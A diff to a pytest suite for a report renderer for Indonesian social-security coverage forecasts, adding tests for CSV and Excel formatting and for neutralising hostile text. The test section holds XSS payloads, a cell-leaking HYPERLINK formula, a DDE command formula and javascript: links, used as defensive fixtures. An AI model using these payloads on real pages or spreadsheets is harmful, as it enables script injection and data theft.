@@ -9,6 +9,7 @@ from __future__ import annotations
 import base64
 import datetime as dt
 import html
+import io
 import re
 import time
 from html.parser import HTMLParser
@@ -19,6 +20,7 @@ import nbformat
 import pandas as pd
 import pytest
 
+from ucj_analysis import render
 from ucj_analysis.record import RECORD_MIMETYPE, to_jsonable
 from ucj_analysis.render import (
     SUMMARY_COLUMNS,
@@ -326,13 +328,23 @@ def test_index_key_numbers_formatted_in_indonesian(batch):
     assert "2045-12" not in table  # never a capped date
 
 
+#: columns of a batch whose forecast records carry no budget lines (the demo notebook's)
+CORE_COLUMNS = [
+    k for k in SUMMARY_COLUMNS if k not in render._OPTIONAL_SUMMARY
+]  # regency ... coverage at the main deadline, report
+
+
 @pytest.mark.slow
 def test_summary_csv_and_xlsx_hold_the_key_numbers(batch):
     out, _ = batch
     cols = {k: v["id"] for k, v in SUMMARY_COLUMNS.items()}
-    csv = pd.read_csv(out / "summary.csv")
-    assert list(csv.columns) == list(cols.values())
+    raw = (out / "summary.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
+    # Indonesian Excel: ';' between fields and a decimal comma
+    csv = pd.read_csv(out / "summary.csv", sep=";", decimal=",", encoding="utf-8-sig")
+    assert list(csv.columns) == [cols[k] for k in CORE_COLUMNS]  # no always-empty column
     assert list(csv[cols["regency"]]) == ["Banggai", "Konawe", "Konawe"]
+    assert "34,81" in raw.decode("utf-8") and "34.81" not in raw.decode("utf-8")
     base = csv[csv[cols["scenario"]] == "baseline"].iloc[0]
     assert base[cols["current_coverage_pct"]] == pytest.approx(34.81)
     assert base[cols["target_pct"]] == pytest.approx(99.5)
@@ -353,23 +365,39 @@ def test_summary_csv_and_xlsx_hold_the_key_numbers(batch):
     sheets = pd.read_excel(out / "summary.xlsx", sheet_name=None)
     assert list(sheets) == ["Ringkasan", "Sumber data", "Laporan"]
     xl = sheets["Ringkasan"]
-    pd.testing.assert_frame_equal(xl, csv, check_dtype=False)
+    assert list(xl.columns) == list(csv.columns)
+    text_cols = [cols[k] for k in ("regency", "scenario", "time_to_target", "status", "report")]
+    pd.testing.assert_frame_equal(xl[text_cols], csv[text_cols])
     prov = sheets["Sumber data"]
     assert list(prov["Data"]) == ["coverage", "assumptions"]
     assert list(prov["Asumsi"]) == [0, 5]
     assert prov.loc[0, "Sumber"] == "BPJS Ketenagakerjaan Kendari (April 2025)"
     reports = sheets["Laporan"]
+    assert "Grafik" not in reports.columns
     assert list(reports["Status"]) == ["dilewati", "gagal", "berhasil"]
     assert ERROR_TEXT in reports.loc[1, "Kesalahan"]
 
     from openpyxl import load_workbook
 
-    ws = load_workbook(out / "summary.xlsx")["Ringkasan"]
+    wb = load_workbook(out / "summary.xlsx")
+    ws = wb["Ringkasan"]
     assert ws["A1"].font.b and ws["A1"].fill.fgColor.rgb.endswith("0B6E99")
     assert ws.freeze_panes == "A2"
     assert ws.column_dimensions["F"].width >= len("tidak tercapai sebelum Des 2045")
-    link_cell = ws.cell(row=2, column=len(cols))
+    header = {c.value: c.column for c in ws[1]}
+    konawe = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 3).value == "baseline")
+    median = ws.cell(konawe, header[cols["median_month"]])
+    assert median.value == dt.datetime(2031, 5, 1) and median.number_format.endswith("mmm yyyy")
+    deadline = ws.cell(konawe, header[cols["main_deadline"]]).value
+    assert deadline == dt.datetime(2030, 12, 1)
+    cov = ws.cell(konawe, header[cols["current_coverage_pct"]])
+    assert cov.data_type == "n" and cov.value == pytest.approx(34.81)
+    assert cov.number_format == '0.0" %"'
+    link_cell = ws.cell(row=2, column=header[cols["report"]])
     assert link_cell.hyperlink.target == "02_regency_forecast/banggai.html"
+    # data source counts are numbers; "Baris" (rows) is the sum of the quality counts
+    ws = wb["Sumber data"]
+    assert [c.value for c in ws[3]][3:] == [5, 0, 0, 5] and ws.cell(3, 4).data_type == "n"
 
 
 # --------------------------------------------------------------------------------------------
@@ -666,3 +694,328 @@ def test_write_index_makes_absolute_report_paths_relative(tmp_path):
     assert "3,3 dtk" in text
     assert "Belum ada hasil proyeksi per kabupaten" in text
     assert pd.read_csv(tmp_path / "summary.csv").empty
+
+
+# --------------------------------------------------------------------------------------------
+# hostile text: escaping, sanitising, spreadsheet formulas
+# --------------------------------------------------------------------------------------------
+SCRIPT = "<script>alert(1)</script>"
+IMG = "<img src=x onerror=alert(1)>"
+FORMULA = '=HYPERLINK("http://x?"&A2,"y")'
+
+
+class DomAudit(HTMLParser):
+    """Elements and attributes that could run code, as a browser would see them."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.scripts = 0
+        self.handlers: list[tuple[str, str]] = []
+        self.bad_urls: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        if tag in ("script", "iframe", "object", "embed"):
+            self.scripts += 1
+        for name, value in attrs:
+            if name.startswith("on"):
+                self.handlers.append((tag, name))
+            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
+                url = re.sub(r"[\x00-\x20]", "", value).lower()
+                if url.startswith(("javascript:", "vbscript:")) or (
+                    url.startswith("data:") and not (tag == "img" and url.startswith("data:image/"))
+                ):
+                    self.bad_urls.append(value)
+
+    handle_startendtag = handle_starttag
+
+
+def audit_dom(text: str) -> DomAudit:
+    audit = DomAudit()
+    audit.feed(text)
+    return audit
+
+
+@pytest.mark.parametrize(
+    ("fragment", "expected"),
+    [
+        (SCRIPT + "<p>a &amp; <b>b</b></p>", "<p>a &amp; <b>b</b></p>"),
+        (IMG, '<img src="x">'),
+        ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
+        ('<a href=" java\tscript:alert(1)">x</a>', "<a>x</a>"),
+        ('<a href="&#106;avascript:alert(1)">x</a>', "<a>x</a>"),
+        ('<a href="data:text/html,<script>">x</a>', "<a>x</a>"),
+        ('<a href="https://bpjs.go.id/?a=1&amp;b=2">x</a>', '<a href="https://bpjs.go.id/?a=1&amp;b=2">x</a>'),
+        ('<a href="#s">x</a><a href="r/a.htm">y</a>', '<a href="#s">x</a><a href="r/a.htm">y</a>'),
+        ('<img src="data:image/png;base64,iVBOR">', '<img src="data:image/png;base64,iVBOR">'),
+        ('<svg onload="alert(1)"><a xlink:href="javascript:1">t</a></svg>', "<svg><a>t</a></svg>"),
+        ('<iframe srcdoc="<script>alert(1)</script>"></iframe>after', "after"),
+        ('<div style="width:expression(alert(1))">s</div><!-- note -->', "<div>s</div>"),
+        ("<style>#T_a th > td {color: red}</style>", "<style>#T_a th > td {color: red}</style>"),
+        ("<svg><style><img src=x onerror=alert(1)></style></svg>",
+         "<svg><style>\\3c img src=x onerror=alert(1)></style></svg>"),
+        ('<p title="&quot;><script>">q</p>', '<p title="&quot;&gt;&lt;script&gt;">q</p>'),
+        ('<meta http-equiv="refresh" content="0;url=javascript:1"><base href="//evil">t', "t"),
+    ],
+)  # fmt: skip
+def test_sanitize_html_keeps_only_inert_markup(fragment, expected):
+    assert render.sanitize_html(fragment) == expected
+
+
+@pytest.mark.parametrize(
+    ("path", "expected"),
+    [
+        ("02_regency_forecast/konawe.html", "02_regency_forecast/konawe.html"),
+        ("02_regency_forecast/tojo una-una.html", "02_regency_forecast/tojo%20una-una.html"),
+        ("javascript:alert(1)", None),
+        (" JavaScript:alert(1)", None),
+        ("java\nscript:alert(1)", None),
+        ("data:text/html;base64,PHNjcmlwdD4=", None),
+        ("https://evil.example/x.html", None),
+        ("//evil.example/x.html", None),
+        ("/etc/passwd", None),
+        ("", None),
+        (None, None),
+    ],
+)
+def test_safe_relative_href(path, expected):
+    assert render.safe_relative_href(path) == expected
+
+
+def test_formula_like_and_csv_neutralising():
+    for text in (FORMULA, "+1", "-2", "@SUM(1)", "\t=1", "\r=1", "  =1+1", "=cmd|'/C calc'!A0"):
+        assert render.formula_like(text), text
+        assert render.neutralise_csv_text(text) == "'" + text
+    for value in ("Konawe", "34,8 %", "2031-05", "", "—", 5, -2.5, None, "a=b", "Rp -5"):
+        assert not render.formula_like(value), value
+        assert render.neutralise_csv_text(value) == value
+
+
+def _hostile_notebook() -> nbformat.NotebookNode:
+    nb = nbformat.v4.new_notebook()
+    cell = nbformat.v4.new_code_cell("show()")
+    cell.outputs = [
+        nbformat.v4.new_output(
+            "display_data",
+            data={"text/html": f"<table><tr><td>{SCRIPT}{IMG}</td></tr></table>"},
+        ),
+        nbformat.v4.new_output(
+            "display_data",
+            data={"text/markdown": f"**Kabupaten** {IMG} [klik](javascript:alert(1))"},
+        ),
+        nbformat.v4.new_output(
+            "display_data", data={"application/javascript": "alert(1)", "text/plain": "js"}
+        ),
+        nbformat.v4.new_output(
+            "display_data",
+            data={
+                "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)'
+                '</script><rect onclick="alert(1)" width="5" height="5"/></svg>'
+            },
+        ),  # fmt: skip
+        nbformat.v4.new_output("stream", name="stdout", text=f"teks {SCRIPT}\n"),
+        nbformat.v4.new_output("error", ename="ValueError", evalue=IMG, traceback=[SCRIPT]),
+    ]
+    nb.cells = [nbformat.v4.new_markdown_cell(f"## Judul {IMG}"), cell]
+    return nb
+
+
+def test_notebook_to_html_runs_no_script_from_outputs_header_or_footer():
+    text = notebook_to_html(
+        _hostile_notebook(),
+        title=f"Proyeksi {SCRIPT}",
+        header={
+            "regency": IMG,
+            "scenarios": {"x": {"id": SCRIPT, "en": IMG}},
+            "run_date": SCRIPT,
+            "subtitle": IMG,
+            "error": SCRIPT,
+            "status": "failed",
+        },
+        footer={
+            "parameters": {IMG: SCRIPT, "scenarios": [FORMULA, IMG]},
+            "git_commit": IMG,
+            "version": SCRIPT,
+            "datasets": [
+                {
+                    "dataset": IMG,
+                    "title": SCRIPT,
+                    "sources": [IMG, "javascript:alert(1)"],
+                    "n_observed": 1,
+                    "n_derived": 0,
+                    "n_assumed": 2,
+                }
+            ],
+        },  # fmt: skip
+    )
+    audit = audit_dom(text)
+    assert audit.scripts == 0 and audit.handlers == [] and audit.bad_urls == []
+    # the text is still there, as text
+    plain = html.unescape(re.sub(r"<[^>]+>", " ", text))
+    assert plain.count(SCRIPT) >= 6 and plain.count(IMG) >= 5
+    assert "Kabupaten" in text and "teks" in text and "Judul" in text
+    assert "data:image/svg+xml;base64," in text  # an SVG chart stays, as an inert <img>
+
+
+def _budget_record(regency: str, html_path: str, **extra) -> dict:
+    values = {
+        "current_coverage_pct": 34.81,
+        "target_pct": 99.5,
+        "run_date": "2026-11-29",
+        "budget_start": "2026-01",
+        "latest_figure_month": "2025-04",
+        "workforce_basis": "BPJS non-ASN",
+        "start_quality": "observed",
+        "time_to_target": [
+            {
+                "scenario": "add_10",
+                "scenario_label": "10 % ADD untuk iuran",
+                "median_month": "2029-03",
+                "p10_month": "2028-07",
+                "p90_month": "2030-02",
+                "status": "reached",
+                "prob_main_deadline": 0.93,
+                "main_deadline": "2030-12",
+                "coverage_main_deadline_pct": 99.6,
+                "budget_year": 2026,
+                "appropriation_rp_per_year": 11_880_000_000.0,
+                "appropriation_rp_per_desa": 40_000_000.0,
+                "appropriation_pct_add": 10.0,
+                "spending_rp_per_year": 10_437_500_000.4,
+                "idle_rp_per_year": 1_442_499_999.6,
+                "arrears_rp_per_year": None,
+            }
+        ],
+    } | extra
+    return {
+        "notebook": "02_regency_forecast",
+        "regency": regency,
+        "slug": "x",
+        "status": "ok",
+        "html": html_path,
+        "ipynb": None,
+        "seconds": 12.25,
+        "error": None,
+        "params": {},
+        "records": values,
+    }
+
+
+def test_summary_frame_reads_budget_lines_and_data_age():
+    frame = summary_frame([_budget_record("Konawe", "r.html")])
+    row = frame.iloc[0]
+    assert row["budget_year"] == 2026 and str(frame["budget_year"].dtype) == "Int64"
+    assert row["appropriation_rp_per_year"] == 11_880_000_000.0
+    assert row["appropriation_pct_add"] == 10.0 and pd.isna(row["arrears_rp_per_year"])
+    assert row["budget_start"] == "2026-01" and row["latest_figure_month"] == "2025-04"
+    # no data_age_months recorded: April 2025 -> November 2026 (run date) = 19 months
+    assert row["data_age_months"] == 19
+    assert row["start_quality"] == "Teramati" and row["run_date"] == "2026-11-29"
+    given = summary_frame([_budget_record("Konawe", "r.html", data_age_months=7)], lang="en")
+    assert given.iloc[0]["data_age_months"] == 7 and given.iloc[0]["start_quality"] == "Observed"
+    # an old record without the new fields: empty cells, same columns
+    old = _budget_record("Konawe", "r.html")
+    for key in ("run_date", "budget_start", "latest_figure_month", "workforce_basis"):
+        del old["records"][key]
+    old["records"]["time_to_target"][0] = {
+        k: v for k, v in old["records"]["time_to_target"][0].items() if "rp" not in k
+    }
+    frame = summary_frame([old])
+    assert list(frame.columns) == list(SUMMARY_COLUMNS)
+    assert (
+        frame[["appropriation_rp_per_year", "data_age_months", "budget_start"]].isna().all().all()
+    )
+
+
+def test_write_index_hostile_text_and_budget_lines(tmp_path):
+    (tmp_path / "02_regency_forecast").mkdir()
+    (tmp_path / "02_regency_forecast" / "h.html").write_text("<html></html>")
+    (tmp_path / "javascript:alert(1)").write_text("a file with a hostile name")
+    hostile = _budget_record(f"{FORMULA}{IMG}", "02_regency_forecast/h.html")
+    hostile["records"]["time_to_target"][0]["scenario_label"] = f"{SCRIPT}"
+    hostile["records"]["workforce_basis"] = "+1"
+    hostile["records"]["provenance"] = [
+        {"dataset": "coverage", "title": IMG, "sources": ["-2", "@SUM(1)"],
+         "n_observed": 3, "n_derived": 1, "n_assumed": 2}
+    ]  # fmt: skip
+    other = {
+        "notebook": "01_data_audit", "regency": None, "slug": "all", "status": "failed",
+        "html": "javascript:alert(1)", "ipynb": None, "seconds": 1.0,
+        "error": f"{FORMULA} {SCRIPT}", "params": {}, "records": {},
+    }  # fmt: skip
+    index = write_index([hostile, other], tmp_path, lang="id").read_text(encoding="utf-8")
+    audit = audit_dom(index)
+    assert audit.scripts == 0 and audit.handlers == [] and audit.bad_urls == []
+    assert 'href="javascript' not in index.lower()
+    plain = html.unescape(index)
+    assert f"{FORMULA}{IMG}" in plain and SCRIPT in plain
+    # the appropriation beside the scenario, Indonesian formatting; the latest figure's age
+    table = re.search(r'<table class="key-numbers">(.*?)</table>', index, re.S).group(1)
+    assert "Alokasi per tahun" in table and "Rp 11,88 miliar" in table
+    assert "Apr 2025" in table and "19 bulan lalu" in table
+    assert "lebih dari 12 bulan" in table
+
+    # summary.csv: ';' and decimal comma, whole rupiah, formula-like text behind an apostrophe
+    raw = (tmp_path / "summary.csv").read_text(encoding="utf-8-sig")
+    csv = pd.read_csv(io.StringIO(raw), sep=";", decimal=",", dtype=str, keep_default_na=False)
+    cols = {k: v["id"] for k, v in SUMMARY_COLUMNS.items()}
+    row = csv.iloc[0]
+    assert row[cols["regency"]] == "'" + FORMULA + IMG
+    assert row[cols["workforce_basis"]] == "'+1"
+    assert row[cols["appropriation_rp_per_year"]] == "11880000000"
+    assert row[cols["spending_rp_per_year"]] == "10437500000"
+    assert row[cols["prob_main_deadline_pct"]] == "93,0"
+    assert row[cols["data_age_months"]] == "19" and row[cols["budget_year"]] == "2026"
+    assert cols["arrears_rp_per_year"] not in csv.columns  # no row has arrears
+    for value in csv.to_numpy().ravel():
+        assert not render.formula_like(value), value
+
+    from openpyxl import load_workbook
+
+    wb = load_workbook(tmp_path / "summary.xlsx")
+    for ws in wb:
+        for cells in ws.iter_rows():
+            for cell in cells:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if render.formula_like(cell.value):
+                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
+    ws = wb["Ringkasan"]
+    header = {c.value: c.column for c in ws[1]}
+    assert ws.cell(2, header[cols["regency"]]).value == FORMULA + IMG  # value kept exactly
+    money = ws.cell(2, header[cols["appropriation_rp_per_year"]])
+    assert money.value == 11_880_000_000 and money.number_format == '"Rp "#,##0'
+    share = ws.cell(2, header[cols["appropriation_pct_add"]])
+    assert share.value == 10.0 and share.number_format == '0.0" %"'
+    for key, month in (("median_month", (2029, 3)), ("budget_start", (2026, 1)),
+                       ("latest_figure_month", (2025, 4))):  # fmt: skip
+        cell = ws.cell(2, header[cols[key]])
+        assert cell.value == dt.datetime(*month, 1), key
+        assert cell.number_format == "[$-421]mmm yyyy", key
+    assert ws.cell(2, header[cols["budget_year"]]).value == 2026
+    assert ws.cell(2, header[cols["data_age_months"]]).data_type == "n"
+    prov = wb["Sumber data"]
+    assert [c.value for c in prov[2]] == ["coverage", IMG, "-2; @SUM(1)", 6, 3, 1, 2]
+    assert prov.cell(2, 3).quotePrefix
+    reports = wb["Laporan"]
+    failed = next(r for r in reports.iter_rows(min_row=2) if r[0].value == "01_data_audit")
+    assert failed[4].value == "javascript:alert(1)" and failed[4].hyperlink is None
+
+    # English: ',' and decimal point; the rupiah text in English on the index
+    index_en = write_index([hostile], tmp_path, lang="en").read_text(encoding="utf-8")
+    assert "IDR 11.88 billion" in index_en and "over 12 months old" in index_en
+    raw = (tmp_path / "summary.csv").read_text(encoding="utf-8-sig")
+    csv = pd.read_csv(io.StringIO(raw))
+    assert csv.loc[0, "Probability by deadline [%]"] == pytest.approx(93.0)
+    assert csv.loc[0, "Appropriation / ADD [%]"] == pytest.approx(10.0)
+    assert csv.loc[0, "Regency"] == "'" + FORMULA + IMG
+
+
+def test_index_omits_age_and_money_columns_for_old_records(tmp_path):
+    rec = _budget_record("Konawe", "r.html")
+    for key in ("latest_figure_month", "run_date"):
+        del rec["records"][key]
+    del rec["records"]["time_to_target"][0]["appropriation_rp_per_year"]
+    text = write_index([rec], tmp_path).read_text(encoding="utf-8")
+    assert "Alokasi per tahun" not in text and "Angka terbaru" not in text
+    fresh = _budget_record("Konawe", "r.html", latest_figure_month="2026-02")
+    text = write_index([fresh], tmp_path).read_text(encoding="utf-8")
+    assert "Feb 2026" in text and "9 bulan lalu" in text and "lebih dari 12 bulan" not in text
